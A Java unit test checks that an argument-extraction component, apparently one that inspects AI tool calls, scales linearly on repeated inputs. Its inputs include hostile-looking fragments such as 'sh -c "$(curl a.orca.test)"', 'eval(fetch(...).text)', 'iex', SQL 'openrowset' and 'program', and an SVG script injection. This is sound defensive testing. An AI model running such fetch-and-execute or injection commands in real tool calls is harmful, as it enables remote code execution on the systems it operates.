/* SPDX-License-Identifier: Apache-2.0 */
package ai.orcarouter.core.net.internal.extract;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The work grows with the input and no faster; counted in characters looked at, not in time. */
class ExtractionStepsTest {
    private static long steps(String tool, String key, String text) {
        return ArgumentExtraction.collect("", tool, null, Map.of(key, text)).steps();
    }

    @ParameterizedTest
    @CsvSource({
        "shell.exec, command, '$('",
        "shell.exec, command, 'echo \"$(echo '",
        "shell.exec, command, 'X=$X$X; '",
        "shell.exec, command, '`'",
        "shell.exec, command, 'sh -c \"'",
        "shell.exec, command, '<(('",
        "shell.exec, command, 'echo a | xargs -I{} '",
        "shell.exec, command, 'parallel {} ::: '",
        "shell.exec, command, 'powershell a('",
        "shell.exec, command, 'sh -c \"$(curl a.orca.test)\"; '",
        "powershell.run, command, '$a=\"$a$a\"; '",
        "powershell.run, command, 'iex (('",
        "python.run, code, 'a=f\"{a}{a}\"; '",
        "python.run, code, 'eval(fetch(\"http://a.orca.test\").text); '",
        "python.run, code, '[(\"a\",'",
        "python.run, code, 'f(f(\"'",
        "python.run, code, 'eval(\"eval('",
        "node.run, code, '`${'",
        "postgres.query, sql, 'openrowset(''a''; '",
        "postgres.query, sql, 'program $$x$$ '",
        "postgres.query, sql, '$a$ select (''x'' '",
        "pdf.render, html, '<svg><script>`${<'",
        "web.request, payload, '[{\"a\":'",
        "web.request, url, '%2525'",
        "note.add, text, 'https://a.orca.test '",
    })
    void collect_doubledInput_doesAtMostAboutTwiceTheWork(String tool, String key, String piece) {
        long once = steps(tool, key, piece.repeat(2_000));
        long twice = steps(tool, key, piece.repeat(4_000));

        assertThat(twice).isLessThanOrEqualTo(2 * once + 4_000L * piece.length());
    }
}
